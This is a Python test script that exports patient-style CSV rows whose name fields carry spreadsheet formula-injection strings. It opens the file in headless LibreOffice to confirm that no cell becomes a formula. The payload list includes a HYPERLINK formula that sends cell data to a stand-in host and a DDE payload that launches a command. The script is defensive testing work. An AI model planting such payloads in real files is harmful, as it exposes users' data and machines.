"""A spreadsheet program opens an export full of formulas: ``python -m tests.faults.spreadsheet``.

Wants LibreOffice (``soffice``) on the path; says how many cells it took for formulas (none may be),
and whether each cell holds what was exported. The suite judges the cells without it
(``tests/sending/test_spreadsheet.py``).
"""

import subprocess
import sys
import tempfile
from pathlib import Path
from xml.etree import ElementTree as ET

from recall_tui.cleaning import clean
from recall_tui.sending.export_file import write_export
from recall_tui.services.batching import EXPORT_COLUMNS

ATTACKS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", " =1+1", "\u200b=1+1",
    "\u00a0=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
    '=HYPERLINK("http://x.test/?"&A1;"click")', "=cmd|' /C calc'!A0", '"=1+1"', '"",=1+1',
    "Smith\n=1+1", "Smith\r\n=1+1,=2+2", "O'Brien", "=IMPORTXML(1)", "%0a=1+1", "{=1+1}",
)  # fmt: skip
"""Names that a clinical system would hand over as they are."""

_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"


def rows() -> list[tuple[str, ...]]:
    """Return one row of a batch a name."""
    return [
        (str(number), "999 000 0000", name, "1950-02-03", "sms", "Nurse 20 min", "1")
        for number, name in enumerate(ATTACKS, 100)
    ]


def opened(file: Path, folder: Path) -> tuple[int, list[str]]:
    """Let LibreOffice open a CSV file; return how many formulas it sees, and the third column."""
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    as_csv = "--infilter=CSV:44,34,76,1"  # commas, quotes, UTF-8, from the first line
    command = [
        "soffice",
        profile,
        "--headless",
        as_csv,
        "--convert-to",
        "fods",
        "--outdir",
        str(folder),
    ]
    subprocess.run([*command, str(file)], check=True, capture_output=True, timeout=300)
    cells = ET.parse(folder / f"{file.stem}.fods").iter(f"{_TABLE}table-row")  # noqa: S314 - written by LibreOffice just now
    formulas, names = 0, list[str]()
    for row in cells:
        columns = row.findall(f"{_TABLE}table-cell")
        formulas += sum(f"{_TABLE}formula" in one.attrib for one in columns)
        if len(columns) >= len(EXPORT_COLUMNS):
            names.append(_words("".join(columns[2].itertext()).strip().removeprefix("'")))
    return formulas, names


def _words(text: str) -> str:
    """Return a text with single blanks: a document keeps several as a sign of its own."""
    return " ".join(text.split())


def main() -> int:
    """Open one, and say what was found; 1: a formula, or another name than was exported."""
    with tempfile.TemporaryDirectory() as place:
        file = Path(place) / "batch.csv"
        write_export(file, EXPORT_COLUMNS, rows())
        formulas, names = opened(file, Path(place))
    wanted = [_words(clean(one)) for one in ATTACKS]
    other = [(one, two) for one, two in zip(wanted, names[1:], strict=True) if one != two]
    print(
        f"{len(names) - 1} rows opened, {formulas} formulas, {len(other)} names other than exported"
    )
    for one, two in other:
        print(f"  {one!r} came as {two!r}")
    return 1 if formulas or other else 0


if __name__ == "__main__":
    sys.exit(main())
